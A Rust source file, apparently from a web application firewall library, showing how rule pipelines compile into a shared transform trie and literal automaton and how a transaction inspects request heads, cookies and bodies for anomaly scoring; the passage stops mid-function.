//! The compiled engine and per-request transactions.
//!
//! Compilation groups rules by transform pipeline into *views*, and the views' pipelines into a
//! trie of *steps*, so that views sharing a prefix (`[url_decode, remove_nulls]` and
//! `[url_decode, remove_nulls, unicode_fold]`) share its work. One Aho-Corasick automaton holds
//! the literals of every rule (ASCII case-insensitive). Per leaf, each step runs only when a cheap
//! byte scan says it may change its input ([`Transform::may_change`]); values are deduplicated by
//! content, and each distinct value is scanned once. Only the rules whose literals hit (plus the
//! few without literals) run their regex or detector. A trailing `lowercase` never changes which
//! literals hit, so it is applied only to the candidates' confirmation value. Regexes are
//! `regex`-crate automata: linear time.

use std::borrow::Cow;
use std::collections::HashMap;
use std::ops::Range;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};

use crate::config::{EngineConfig, MAX_HITS};
use crate::decode::content_coding::{self, ContentCoding, Inflated};
use crate::decode::sniff;
use crate::decode::{self, Limits, Sink};
use crate::detect;
use crate::error::RuleError;
use crate::leaf::{FieldKind, Leaf, Location};
use crate::memo::{Lookup, ValueMemo};
use crate::request::{
    decoded_path, host_is_ip, method_overrides, override_method, resolved_path, split_target,
    RequestHead, TargetForm, METHOD_OVERRIDE_FIELD,
};
use crate::rule::{parse_source, Matcher, Rule, RuleSource};
use crate::signal::Signal;
#[cfg(test)]
use crate::transform::apply_all;
use crate::transform::Transform;
use crate::user::{Exclusion, UserRules};
use crate::verdict::{mask_snippet, RuleHit, Verdict};

/// Most distinct transform pipelines (views) an engine may have.
const MAX_VIEWS: usize = 48;

/// Most transform steps in the trie shared by all views (node ids are `u16`).
const MAX_STEPS: usize = 4096;

/// Trie node of the root: the leaf's value as decoded by its container.
const ROOT: u16 = 0;
/// Slot of the leaf's own value.
const RAW_SLOT: u16 = 0;
/// Marks a node or memo entry not computed yet for this leaf.
const UNSET: u16 = u16::MAX;

/// One trie step: the value of node `parent` with `transform` applied. Node `i + 1` is step `i`;
/// a parent always precedes its children.
#[derive(Debug, Clone, Copy)]
struct Step {
    parent: u16,
    transform: Transform,
}

/// One transform pipeline and the rules that match through it.
#[derive(Debug)]
struct View {
    transforms: Vec<Transform>,
    names: Vec<&'static str>,
    /// Trie node of the scanned value: the pipeline without its trailing `lowercase`.
    node: u16,
    /// The pipeline ends in `lowercase`: lowercase the scanned value before confirming.
    lower: bool,
    /// The transforms of the scanned pipeline, as [`Transform::bit`]s: when none of them may
    /// change a value, the view scans the value as it is.
    scan_mask: u16,
    /// Rules without literals: candidates for every leaf in their targets.
    always: Vec<u32>,
    /// Union of the rules' location masks.
    mask: u32,
    /// Union of the rules' field masks.
    field_mask: u8,
    /// Header names any rule targets (empty + `all_headers` = every header).
    all_headers: bool,
    header_names: Vec<String>,
}

/// The views whose location and field masks admit one (location, field kind) pair.
#[derive(Debug, Default)]
struct ViewGroup {
    views: Vec<u16>,
    /// Bits of `views`.
    view_bits: u64,
    /// Union of the views' `scan_mask`s: when none of these transforms may change a value,
    /// every view scans the value as it is.
    scan_mask: u16,
}

/// Index into [`Engine::view_groups`].
fn group_index(location: Location, field: FieldKind) -> usize {
    location.bit().trailing_zeros() as usize * 8 + field.bit().trailing_zeros() as usize
}

/// What a proxy does with a request body before the app sees it ([`Engine::body_plan`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyPlan {
    /// Buffer it (up to `max_inspect_body`) and pass it to [`Transaction::inspect_body`].
    Inspect,
    /// Binary media: hold its first [`SNIFF_LEN`](crate::decode::sniff::SNIFF_LEN) bytes (or all
    /// of a shorter body). When [`sniff::looks_like_text`] says they are text, buffer and
    /// inspect it as [`BodyPlan::Inspect`] does; otherwise stream it uninspected.
    Sniff,
}

/// A compiled, immutable rule engine. `Send + Sync`: share it in an `Arc` and swap it atomically
/// when rules change.
#[derive(Debug)]
pub struct Engine {
    rules: Vec<Rule>,
    views: Vec<View>,
    /// One automaton over the literals of two bytes or more of every rule (ASCII
    /// case-insensitive).
    ac: Option<AhoCorasick>,
    /// Pattern id → the rules that use the literal.
    pattern_rules: Vec<Vec<PatternRule>>,
    /// Byte → (view index, rule index) of the rules with that byte as a one-byte literal (both
    /// cases of a letter). These stay out of the automaton: `/`, `:` or `(` occur many times in
    /// ordinary values (every URL), and each occurrence was an automaton match to walk.
    byte_rules: Vec<Vec<(u16, u32)>>,
    /// The bytes that have entries in `byte_rules`.
    trigger_bytes: ByteSet,
    /// `trigger_bytes` as one flag per byte value: the per-byte test of the trigger scan.
    is_trigger: [bool; 256],
    /// Rule index → its view.
    rule_views: Vec<u16>,
    /// The transform trie shared by the views.
    steps: Vec<Step>,
    /// Views that have rules without literals.
    always_views: Vec<u16>,
    /// The views that may apply to a leaf, by its location and field kind ([`group_index`]),
    /// so a leaf does not test every view.
    view_groups: Vec<ViewGroup>,
    signal_rules: Vec<Vec<u32>>,
    exclusions: Vec<Exclusion>,
    config: EngineConfig,
    version: String,
    /// This compiled engine's identity for [`crate::clean_headers`] (unique per compilation, so
    /// a rule update never reuses what older rules found clean).
    id: u64,
}

fn fnv1a(hash: u64, bytes: &[u8]) -> u64 {
    bytes.iter().fold(hash, |h, &b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

impl Engine {
    /// Compiles rulesets plus user rules and exclusions for a configuration. Rules above the
    /// configured paranoia level and rules disabled by a global exclusion are left out.
    pub fn compile(
        sources: &[RuleSource],
        user: &UserRules,
        config: &EngineConfig,
    ) -> Result<Engine, RuleError> {
        config.validate()?;
        let mut all: Vec<Rule> = Vec::new();
        let mut seen: HashMap<u32, String> = HashMap::new();
        let mut hash = 0xcbf2_9ce4_8422_2325u64;
        for src in sources {
            hash = fnv1a(hash, src.name.as_bytes());
            hash = fnv1a(hash, src.yaml.as_bytes());
            for rule in parse_source(&src.name, &src.yaml)? {
                if let Some(prev) = seen.insert(rule.id, src.name.to_string()) {
                    return Err(RuleError::new(
                        &src.name,
                        format!("duplicate rule id (also in {prev})"),
                    )
                    .rule(rule.id)
                    .key("id")
                    .at_line(crate::error::line_of_rule_id(&src.yaml, rule.id)));
                }
                all.push(rule);
            }
        }
        for rule in &user.rules {
            if let Some(prev) = seen.insert(rule.id, crate::user::USER_SOURCE.to_string()) {
                return Err(RuleError::new(
                    crate::user::USER_SOURCE,
                    format!("rule id already used in {prev}"),
                )
                .rule(rule.id)
                .key("id"));
            }
            all.push(rule.clone());
        }
        for ex in &user.exclusions {
            for id in &ex.rule_ids {
                if !seen.contains_key(id) {
                    return Err(RuleError::new(
                        crate::user::USER_SOURCE,
                        format!("rule {id} does not exist"),
                    )
                    .key(&format!("exclusions[{}].rule", ex.index))
                    .at_line(ex.line));
                }
            }
        }
        let globally_disabled = |r: &Rule| {
            user.exclusions
                .iter()
                .any(|e| e.is_global() && e.covers_rule(r.id, &r.category))
        };
        let rules: Vec<Rule> = all
            .into_iter()
            .filter(|r| r.paranoia <= config.paranoia && !globally_disabled(r))
            .collect();

        // Group pattern rules by pipeline.
        let mut views: Vec<View> = Vec::new();
        let mut steps: Vec<Step> = Vec::new();
        let mut patterns: Vec<String> = Vec::new();
        let mut pattern_index: HashMap<String, usize> = HashMap::new();
        let mut pattern_rules: Vec<Vec<PatternRule>> = Vec::new();
        let mut byte_rules: Vec<Vec<(u16, u32)>> = vec![Vec::new(); 256];
        let mut trigger_bytes = ByteSet::default();
        let mut rule_views: Vec<u16> = vec![0; rules.len()];
        let mut signal_rules: Vec<Vec<u32>> = vec![Vec::new(); Signal::ALL.len()];
        for (idx, rule) in rules.iter().enumerate() {
            let idx = idx as u32;
            let literals = match &rule.matcher {
                Matcher::Signal(s) => {
                    signal_rules[s.index()].push(idx);
                    continue;
                }
                Matcher::Pattern { literals, .. } => literals,
            };
            let vi = match views.iter().position(|v| v.transforms == rule.transforms) {
                Some(vi) => vi,
                None => {
                    let Some((node, lower)) = trie_node(&mut steps, &rule.transforms) else {
                        return Err(RuleError::new(
                            "rulesets",
                            format!("more than {MAX_STEPS} transform steps in all pipelines; use shorter pipelines"),
                        )
                        .rule(rule.id)
                        .key("transforms"));
                    };
                    views.push(View {
                        transforms: rule.transforms.clone(),
                        names: rule.transforms.iter().map(|t| t.name()).collect(),
                        node,
                        lower,
                        scan_mask: scan_mask(&rule.transforms),
                        always: Vec::new(),
                        mask: 0,
                        field_mask: 0,
                        all_headers: false,
                        header_names: Vec::new(),
                    });
                    if views.len() > MAX_VIEWS {
                        return Err(RuleError::new(
                            "rulesets",
                            format!("more than {MAX_VIEWS} distinct transform pipelines; reuse pipelines across rules"),
                        )
                        .rule(rule.id)
                        .key("transforms"));
                    }
                    views.len() - 1
                }
            };
            rule_views[idx as usize] = vi as u16;
            let view = &mut views[vi];
            view.mask |= rule.targets.mask;
            view.field_mask |= rule.field_mask;
            view.all_headers |= rule.targets.all_headers;
            for h in &rule.targets.header_names {
                if !view.header_names.contains(h) {
                    view.header_names.push(h.clone());
                }
            }
            if literals.is_empty() {
                view.always.push(idx);
                continue;
            }
            for lit in literals {
                let key = lit.to_ascii_lowercase();
                let entry = (vi as u16, idx);
                if let [byte] = key.as_bytes() {
                    for b in [*byte, byte.to_ascii_uppercase()] {
                        let rules = &mut byte_rules[usize::from(b)];
                        if !rules.contains(&entry) {
                            rules.push(entry);
                        }
                        trigger_bytes.insert(b);
                    }
                    continue;
                }
                let entry = PatternRule {
                    view: vi as u16,
                    rule: idx,
                    at_word_start: rule.literals_start_words
                        && key.as_bytes().first().is_some_and(|&b| is_word_byte(b)),
                };
                let pid = *pattern_index.entry(key.clone()).or_insert_with(|| {
                    patterns.push(key);
                    pattern_rules.push(Vec::new());
                    patterns.len() - 1
                });
                if !pattern_rules[pid].contains(&entry) {
                    pattern_rules[pid].push(entry);
                }
            }
        }
        let ac = if patterns.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::Standard)
                    // Two-byte literals (`${`, `--`, `/*`) defeat prefilters, so the scan runs
                    // the automaton over every byte: a full DFA makes each byte one table
                    // lookup (the pattern set is a few hundred short literals).
                    .kind(Some(AhoCorasickKind::DFA))
                    .build(&patterns)
                    .map_err(|e| RuleError::new("rulesets", format!("literal automaton: {e}")))?,
            )
        };
        let always_views: Vec<u16> = (0..views.len())
            .filter(|&vi| !views[vi].always.is_empty())
            .map(|vi| vi as u16)
            .collect();
        let mut view_groups: Vec<ViewGroup> = (0..32 * 8).map(|_| ViewGroup::default()).collect();
        for (i, group) in view_groups.iter_mut().enumerate() {
            let (location_bit, field_bit) = (1u32 << (i / 8), 1u8 << (i % 8));
            for (vi, view) in views.iter().enumerate() {
                if view.mask & location_bit != 0 && view.field_mask & field_bit != 0 {
                    group.views.push(vi as u16);
                    group.view_bits |= 1u64 << vi;
                    group.scan_mask |= view.scan_mask;
                }
            }
        }
        let version = format!("{}+{:016x}", env!("CARGO_PKG_VERSION"), hash);
        let mut exclusions: Vec<Exclusion> = user
            .exclusions
            .iter()
            .filter(|e| !e.is_global())
            .cloned()
            .collect();
        exclusions.shrink_to_fit();
        Ok(Engine {
            id: crate::clean_headers::next_engine_id(),
            rules,
            views,
            ac,
            pattern_rules,
            byte_rules,
            is_trigger: std::array::from_fn(|b| trigger_bytes.contains(b as u8)),
            trigger_bytes,
            rule_views,
            always_views,
            view_groups,
            steps,
            signal_rules,
            exclusions,
            config: config.clone(),
            version,
        })
    }

    /// Compiles the embedded rulesets with no user rules at the given config.
    pub fn with_embedded(config: &EngineConfig) -> Result<Engine, RuleError> {
        Engine::compile(crate::embedded_rulesets(), &UserRules::empty(), config)
    }

    /// Number of active rules (after paranoia and global exclusions).
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Number of views (distinct transform pipelines) — at most one literal scan per view per
    /// leaf, fewer when pipelines leave the value unchanged.
    pub fn view_count(&self) -> usize {
        self.views.len()
    }

    /// Number of transform steps in the trie the views share.
    pub fn step_count(&self) -> usize {
        self.steps.len()
    }

    /// Ruleset version for logs: crate version + hash of every rule source.
    pub fn version(&self) -> &str {
        &self.version
    }

    /// The configuration this engine was compiled for.
    pub fn config(&self) -> &EngineConfig {
        &self.config
    }

    /// How a proxy treats a request body of this content type and `Content-Encoding` before
    /// the app sees a byte of it. Binary media sent as is is sniffed (its first bytes decide);
    /// everything else, compressed binary media included, is buffered and inspected.
    pub fn body_plan(&self, content_type: Option<&[u8]>, coding: ContentCoding) -> BodyPlan {
        if coding == ContentCoding::Identity
            && decode::body_kind(content_type) == decode::BodyKind::Binary
        {
            BodyPlan::Sniff
        } else {
            BodyPlan::Inspect
        }
    }

    /// Starts inspecting one request.
    pub fn transaction(&self) -> Transaction<'_> {
        Transaction {
            engine: self,
            verdict: Verdict::default(),
            buf: Buffers::take(),
            leaves: 0,
            signals_seen: 0,
            content_coding: ContentCoding::Identity,
            post: false,
            #[cfg(test)]
            reference: false,
        }
    }
}

/// A transaction's working buffers. Each worker thread keeps the last finished transaction's
/// (emptied) so that inspecting a request allocates nothing once the thread has warmed up: a
/// small GET otherwise spent about a quarter of its inspection growing these from empty.
#[derive(Debug, Default)]
struct Buffers {
    /// Rule indexes already scored.
    fired: Vec<u32>,
    /// Candidate scratch: (rule index, value slot, literal match range).
    cands: Vec<(u32, u16, Range<usize>)>,
    /// Per-leaf buffers, reused across leaves.
    scratch: Scratch,
    /// Rules already candidates for the current leaf.
    seen: RuleBits,
    active_exclusions: Vec<usize>,
    /// Detector results for values seen earlier in this request.
    detector_memo: detect::Memo,
    /// (View group, value) pairs that confirmed no rule earlier in this request.
    clean_values: ValueMemo<()>,
}

thread_local! {
    static SPARE_BUFFERS: std::cell::RefCell<Option<Buffers>> = const { std::cell::RefCell::new(None) };
}

impl Buffers {
    /// This thread's spare buffers, or fresh ones.
    fn take() -> Buffers {
        SPARE_BUFFERS
            .try_with(|spare| spare.try_borrow_mut().ok().and_then(|mut s| s.take()))
            .ok()
            .flatten()
            .unwrap_or_default()
    }

    /// Empties the buffers (the value bytes the memos hold are zeroed: no request's values
    /// outlive it) and keeps them for this thread's next transaction.
    fn give_back(mut self) {
        self.fired.clear();
        self.cands.clear();
        self.scratch.clear();
        self.seen.clear();
        self.active_exclusions.clear();
        self.detector_memo.clear();
        self.clean_values.clear();
        let _ = SPARE_BUFFERS.try_with(|spare| {
            if let Ok(mut spare) = spare.try_borrow_mut() {
                spare.get_or_insert(self);
            }
        });
    }
}

impl Drop for Transaction<'_> {
    fn drop(&mut self) {
        std::mem::take(&mut self.buf).give_back();
    }
}

/// Inspection state for one request. Creating one takes the thread's spare buffers (see
/// [`Buffers`]); dropping it gives them back.
#[derive(Debug)]
pub struct Transaction<'e> {
    engine: &'e Engine,
    verdict: Verdict,
    /// Working buffers, taken from the thread's spare set and given back on drop.
    buf: Buffers,
    leaves: usize,
    signals_seen: u64,
    /// What the head's `Content-Encoding` fields say was done to the body.
    content_coding: ContentCoding,
    /// The method is `POST`, so a `_method` field in the body may make it another.
    post: bool,
    /// Tests: evaluate leaves the slow, obviously-correct way.
    #[cfg(test)]
    reference: bool,
}

/// The transformed values of one leaf. Slot 0 is the leaf's own value; slot `i > 0` is
/// `owned[i - 1]`. Every slot holds a distinct value.
#[derive(Debug, Default)]
struct Scratch {
    /// Trie node → slot of its value (or [`UNSET`]); valid when `trie_ready`.
    node_slot: Vec<u16>,
    trie_ready: bool,
    /// Transforms that may change the leaf's own value ([`Transform::bit`]s).
    raw_changes: u16,
    /// Transformed values; only the first `used` belong to the current leaf.
    owned: Vec<Vec<u8>>,
    used: usize,
    /// (input slot, transform, output slot): each transform runs once per distinct input.
    memo: Vec<(u16, Transform, u16)>,
    /// Slots to scan, in the order the views first use them, with the views each one serves.
    scan: Vec<(u16, u64)>,
    /// View → slot of its scanned value (or [`UNSET`] when the view does not apply).
    view_slot: Vec<u16>,
}

/// A rule that uses an automaton literal.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct PatternRule {
    view: u16,
    rule: u32,
    /// The literal counts only where it starts a word (`literals_start_words`, and the literal
    /// begins with a word byte).
    at_word_start: bool,
}

impl PatternRule {
    /// Whether a hit of the literal at `start` of `v` selects the rule.
    fn selects(&self, v: &[u8], start: usize) -> bool {
        !self.at_word_start || start == 0 || !v.get(start - 1).is_some_and(|&b| is_word_byte(b))
    }
}

/// ASCII letter, digit or `_` (what `\w` matches in the rules' byte-oriented regexes).
fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Bit per rule: already a candidate for this leaf (cleared after each leaf).
#[derive(Debug, Default)]
struct RuleBits(Vec<u64>);

impl RuleBits {
    /// Sets a rule's bit; false when it was already set.
    fn insert(&mut self, rule: u32) -> bool {
        let (word, bit) = ((rule / 64) as usize, 1u64 << (rule % 64));
        if self.0.len() <= word {
            self.0.resize(word + 1, 0);
        }
        let fresh = self.0[word] & bit == 0;
        self.0[word] |= bit;
        fresh
    }

    fn remove(&mut self, rule: u32) {
        if let Some(w) = self.0.get_mut((rule / 64) as usize) {
            *w &= !(1u64 << (rule % 64));
        }
    }

    /// Clears every bit (they are all clear between leaves already; this keeps it certain).
    fn clear(&mut self) {
        self.0.fill(0);
    }
}

/// A set of byte values.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
struct ByteSet([u64; 4]);

impl ByteSet {
    fn contains(&self, b: u8) -> bool {
        self.0[usize::from(b >> 6)] & (1u64 << (b & 63)) != 0
    }

    /// Adds `b`; false when it was there already.
    fn insert(&mut self, b: u8) -> bool {
        let word = &mut self.0[usize::from(b >> 6)];
        let bit = 1u64 << (b & 63);
        let fresh = *word & bit == 0;
        *word |= bit;
        fresh
    }
}

impl Scratch {
    /// Drops the transformed values (they hold request data) and forgets the current leaf.
    fn clear(&mut self) {
        self.owned.clear();
        self.reset(0);
    }

    fn reset(&mut self, views: usize) {
        self.trie_ready = false;
        self.raw_changes = 0;
        self.used = 0;
        self.memo.clear();
        self.scan.clear();
        self.view_slot.clear();
        self.view_slot.resize(views, UNSET);
    }

    fn value<'v>(&'v self, raw: &'v [u8], slot: u16) -> &'v [u8] {
        if slot == RAW_SLOT {
            raw
        } else {
            self.owned
                .get(usize::from(slot) - 1)
                .map_or(&[], Vec::as_slice)
        }
    }

    /// The slot of `transform` applied to the value in `input`: the same slot when the transform
    /// cannot or does not change it, an existing slot when the result equals another value.
    fn derive(&mut self, raw: &[u8], input: u16, transform: Transform) -> u16 {
        if let Some(&(_, _, out)) = self
            .memo
            .iter()
            .find(|&&(i, t, _)| i == input && t == transform)
        {
            return out;
        }
        let value = self.value(raw, input);
        let unchanged = if input == RAW_SLOT {
            self.raw_changes & transform.bit() == 0
        } else {
            !transform.may_change(value)
        };
        let out = if unchanged {
            input
        } else {
            match transform.apply(value) {
                Cow::Borrowed(_) => input,
                Cow::Owned(next) => self.intern(raw, next),
            }
        };
        self.memo.push((input, transform, out));
        out
    }

    fn intern(&mut self, raw: &[u8], next: Vec<u8>) -> u16 {
        if next.as_slice() == raw {
            return RAW_SLOT;
        }
        if let Some(i) = self.owned[..self.used].iter().position(|o| *o == next) {
            return (i + 1) as u16;
        }
        if self.used < self.owned.len() {
            self.owned[self.used] = next;
        } else {
            self.owned.push(next);
        }
        self.used += 1;
        self.used as u16
    }

    /// The slot of a trie node's value, computing the missing steps on its path.
    fn node(&mut self, raw: &[u8], steps: &[Step], node: u16) -> u16 {
        if !self.trie_ready {
            self.node_slot.clear();
            self.node_slot.resize(steps.len() + 1, UNSET);
            self.node_slot[usize::from(ROOT)] = RAW_SLOT;
            self.trie_ready = true;
        }
        let known = self
            .node_slot
            .get(usize::from(node))
            .copied()
            .unwrap_or(RAW_SLOT);
        if known != UNSET {
            return known;
        }
        let Some(step) = steps.get(usize::from(node) - 1).copied() else {
            return RAW_SLOT;
        };
        let input = self.node(raw, steps, step.parent);
        let out = self.derive(raw, input, step.transform);
        self.node_slot[usize::from(node)] = out;
        out
    }
}

/// The bits of the transforms a view applies before its literal scan.
fn scan_mask(transforms: &[Transform]) -> u16 {
    let mut scanned = transforms;
    while let Some((Transform::Lowercase, rest)) = scanned.split_last() {
        scanned = rest;
    }
    scanned.iter().fold(0, |m, t| m | t.bit())
}

/// Adds a pipeline to the trie; returns the node of its value without trailing `lowercase`
/// steps, and whether there were any. `None` when the trie would exceed [`MAX_STEPS`].
fn trie_node(steps: &mut Vec<Step>, transforms: &[Transform]) -> Option<(u16, bool)> {
    let mut scanned = transforms;
    while let Some((Transform::Lowercase, rest)) = scanned.split_last() {
        scanned = rest;
    }
    let lower = scanned.len() < transforms.len();
    let mut node = ROOT;
    for &transform in scanned {
        node = match steps
            .iter()
            .position(|s| s.parent == node && s.transform == transform)
        {
            Some(i) => (i + 1) as u16,
            None if steps.len() < MAX_STEPS => {
                steps.push(Step {
                    parent: node,
                    transform,
                });
                steps.len() as u16
            }
            None => return None,
        };
    }
    Some((node, lower))
}

impl<'e> Transaction<'e> {
    /// Inspects method, path, query, headers and cookies.
    pub fn inspect_head(&mut self, head: &RequestHead<'_>) {
        let (form, path, query) = split_target(head.target);
        self.post = head.method.eq_ignore_ascii_case("POST");
        let overrides = method_overrides(
            head.method,
            |name| {
                head.headers
                    .iter()
                    .find(|(n, _)| n.eq_ignore_ascii_case(name))
                    .map(|&(_, v)| v)
            },
            query,
        );
        if !self.engine.exclusions.is_empty() {
            // An exclusion loosens inspection, so it applies only where the path is in its scope
            // both as sent and as resolved (`/fhir/../search` is not under `/fhir/*` to an app
            // that resolves it), and the method as sent and as any override makes it.
            let sent = decoded_path(path);
            let resolved = resolved_path(path);
            let resolved = String::from_utf8_lossy(&resolved);
            let methods =
                || std::iter::once(head.method).chain(overrides.iter().map(String::as_str));
            self.buf.active_exclusions = self
                .engine
                .exclusions
                .iter()
                .enumerate()
                .filter(|(_, e)| {
                    methods().all(|m| {
                        e.applies_to_request(m, &sent) && e.applies_to_request(m, &resolved)
                    })
                })
                .map(|(i, _)| i)
                .collect();
        }
        self.method_leaf(head.method.as_bytes());
        // The method the app may act as is a method too (rule 100400, user rules on `method`).
        for m in &overrides {
            self.method_leaf(m.as_bytes());
        }
        if form == TargetForm::Invalid {
            self.signal(Signal::InvalidTarget, Location::Path, "");
        }
        if path.iter().any(|&b| b < 0x20 || b == 0x7f) {
            self.signal(Signal::PathControlChar, Location::Path, "");
        }
        self.leaf(Leaf {
            location: Location::Path,
            name: "",
            value: path,
            field: FieldKind::Generic,
        });
        if let Some(q) = query {
            decode::form::decode_form(q, Location::Query, self);
        }
        let mut host_seen = false;
        let mut content_lengths: Option<&[u8]> = None;
        let mut transfer_encoding = false;
        let mut first_content_type: Option<&[u8]> = None;
        let mut content_types_differ = false;
        // One buffer for every header's lowercased name.
        let mut lname = String::new();
        for &(name, value) in head.headers {
            lname.clear();
            lname.push_str(name);
            lname.make_ascii_lowercase();
            if value.iter().any(|&b| b == b'\r' || b == b'\n') {
                self.signal(Signal::HeaderNewline, Location::Header, &lname);
            }
            match lname.as_str() {
                "host" => {
                    host_seen = true;
                    if host_is_ip(value) {
                        self.signal(Signal::HostIsIp, Location::Header, "host");
                    }
                }
                "content-length" => {
                    if value.is_empty() || !value.iter().all(u8::is_ascii_digit) {
                        self.signal(
                            Signal::InvalidContentLength,
                            Location::Header,
                            "content-length",
                        );
                    }
                    if content_lengths.is_some_and(|prev| prev != value) {
                        self.signal(Signal::AmbiguousLength, Location::Header, "content-length");
                    }
                    content_lengths = Some(value);
                }
                "transfer-encoding" => transfer_encoding = true,
                "content-encoding" => self.content_coding = self.content_coding.and_field(value),
                "content-type" => match first_content_type {
                    Some(first) => {
                        content_types_differ |=
                            !decode::trim(first).eq_ignore_ascii_case(decode::trim(value));
                    }
                    None => first_content_type = Some(value),
                },
                "x-original-url" | "x-rewrite-url" => {
                    self.signal(Signal::PathOverrideHeader, Location::Header, &lname);
                }
                // Upload helpers send the file name in a header; it is a file name to the rules.
                "x-filename" | "x-file-name" | "x_filename" | "x.filename"
                | "x-upload-filename" | "x_file_name" | "x.file_name" => {
                    self.leaf(Leaf {
                        location: Location::Filename,
                        name: &lname,
                        value,
                        field: FieldKind::Generic,
                    });
                }
                "cookie" => {
                    self.cookies(value);
                    continue;
                }
                _ => {}
            }
            self.leaf(Leaf {
                location: Location::Header,
                name: &lname,
                value,
                field: FieldKind::Generic,
            });
        }
        // Two different types matter only for a body (which one the app reads it as).
        let has_body = transfer_encoding || content_lengths.is_some_and(|n| n != b"0");
        if content_types_differ && has_body {
            self.signal(
                Signal::DuplicateContentType,
                Location::Header,
                "content-type",
            );
        }
        if content_lengths.is_some() && transfer_encoding {
            self.signal(
                Signal::AmbiguousLength,
                Location::Header,
                "transfer-encoding",
            );
        }
        if !host_seen && form != TargetForm::Absolute {
            self.signal(Signal::MissingHost, Location::Header, "host");
        }
    }

    fn cookies(&mut self, header: &[u8]) {
        for pair in header.split(|&b| b == b';') {
            let pair = decode::trim(pair);
            if pair.is_empty() {
                continue;
            }
            let (n, v) = match pair.iter().position(|&b| b == b'=') {
                Some(eq) => (&pair[..eq], &pair[eq + 1..]),
                None => (pair, &b""[..]),
            };
            let name = String::from_utf8_lossy(n);
            self.leaf(Leaf {
                location: Location::CookieName,
                name: &name,
                value: n,
                field: FieldKind::Generic,
            });
            let value = crate::transform::url_decode::url_decode_once(v, false);
            self.leaf(Leaf {
                location: Location::Cookie,
                name: &name,
                value: &value,
                field: FieldKind::Generic,
            });
        }
    }

    /// Inspects a buffered body (up to `max_inspect_body` bytes), decoded by its content type,
    /// after undoing the `Content-Encoding` [`Transaction::inspect_head`] saw (the app will).
    pub fn inspect_body(&mut self, content_type: Option<&[u8]>, body: &[u8]) {
        let limit = self.engine.config.max_inspect_body;
        let body = &body[..body.len().min(limit)];
        if body.is_empty() {
            return;
        }
        let kind = decode::body_kind(content_type);
        let inflated;
        let body = match self.content_coding {
            ContentCoding::Identity => body,
            ContentCoding::Unsupported => {
                // Its content cannot be seen: the signal is all there is to judge.
                self.signal(Signal::UnsupportedContentEncoding, Location::Body, "");
                return;
            }
            coding => {
                let mut out = Vec::new();
                match content_coding::inflate(coding, body, limit, &mut out) {
                    Inflated::Whole => {}
                    Inflated::Malformed => {
                        self.signal(Signal::ContentEncodingMalformed, Location::Body, "")
                    }
                    Inflated::TooLarge => {
                        self.signal(Signal::ContentEncodingTooLarge, Location::Body, "")
                    }
                }
                inflated = out;
                &inflated[..]
            }
        };
        // Binary media is inspected only when it is text after all, as what it looks like.
        let kind = match kind {
            decode::BodyKind::Binary if !sniff::looks_like_text(body) => return,
            decode::BodyKind::Binary => sniff::sniffed_kind(body),
            kind => kind,
        };
        let limits = Limits {
            max_depth: self.engine.config.max_depth,
            inspect_file_contents: self.engine.config.inspect_file_contents,
        };
        decode::decode_body(kind, content_type.unwrap_or(b""), body, limits, self);
    }

    /// The verdict so far (complete after `inspect_head` and, if any, `inspect_body`).
    pub fn verdict(&self) -> &Verdict {
        &self.verdict
    }

    /// Consumes the transaction, returning the verdict.
    pub fn into_verdict(mut self) -> Verdict {
        std::mem::take(&mut self.verdict)
    }

    /// A `_method` form field (Rails, Rack, Laravel): the request is that method to the app, so
    /// exclusions scoped to other methods stop applying, and the method is inspected as one.
    /// (Leaves decoded before the field was reached were judged with the head's exclusions.)
    fn body_method_override(&mut self, value: &[u8]) {
        let Some(method) = override_method(value) else {
            return;
        };
        let exclusions = &self.engine.exclusions;
        self.buf.active_exclusions.retain(|&i| {
            exclusions
                .get(i)
                .is_some_and(|e| e.applies_to_method(&method))
        });
        self.method_leaf(method.as_bytes());
    }

    fn method_leaf(&mut self, method: &[u8]) {
        self.leaf(Leaf {
            location: Location::Method,
            name: "",
            value: method,
            field: FieldKind::Generic,
        });
    }

    fn excluded(&self, rule: &Rule, target: &str) -> bool {
        self.buf.active_exclusions.iter().any(|&i| {
            let e = &self.engine.exclusions[i];
            e.covers_rule(rule.id, &rule.category) && e.covers_target(target)
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn record(
        &mut self,
        rule_idx: u32,
        leaf: &Leaf<'_>,
        value: &[u8],
        range: Range<usize>,
        transforms: &[&'static str],
        detector: Option<&'static str>,
    ) {
        let engine = self.engine;
        let rule = &engine.rules[rule_idx as usize];
        let target = leaf.target_name();
        if self.excluded(rule, &target) {
            return;
        }
        if !self.buf.fired.contains(&rule_idx) {
            self.buf.fired.push(rule_idx);
            self.verdict.score = self.verdict.score.saturating_add(rule.score);
            self.verdict.blocked = self.verdict.score >= engine.config.anomaly_threshold;
        }
        if self.verdict.hits.len() < MAX_HITS
            && !self
                .verdict
                .hits
                .iter()
                .any(|h| h.rule_id == rule.id && h.target == target)
        {
            self.verdict.hits.push(RuleHit {
                rule_id: rule.id,
                category: rule.category.clone(),
                paranoia: rule.paranoia,
                score: rule.score,
                target,
                snippet: mask_snippet(value, range),
                transforms: transforms.to_vec(),
                message: rule.name.clone(),
                detector,
            });
        }
    }

    /// Whether a view's rules may look at this leaf at all.
    fn view_applies(view: &View, leaf: &Leaf<'_>) -> bool {
        view.mask & leaf.location.bit() != 0
            && view.field_mask & leaf.field.bit() != 0
            && (leaf.location != Location::Header
                || view.all_headers
                || view.header_names.iter().any(|h| h == leaf.name))
    }

    fn eval_leaf(&mut self, leaf: &Leaf<'_>) {
        #[cfg(test)]
        if self.reference {
            self.eval_leaf_reference(leaf);
            return;
        }
        let engine = self.engine;
        let value = &leaf.value[..leaf.value.len().min(engine.config.max_leaf_len)];
        // Each view's value, computed through the shared trie; steps whose input cannot change
        // are skipped and equal values share a slot, so a clean value costs one literal scan
        // however many pipelines the rules use.
        let group_id = group_index(leaf.location, leaf.field);
        let Some(group) = engine.view_groups.get(group_id) else {
            return;
        };
        if group.views.is_empty() {
            return;
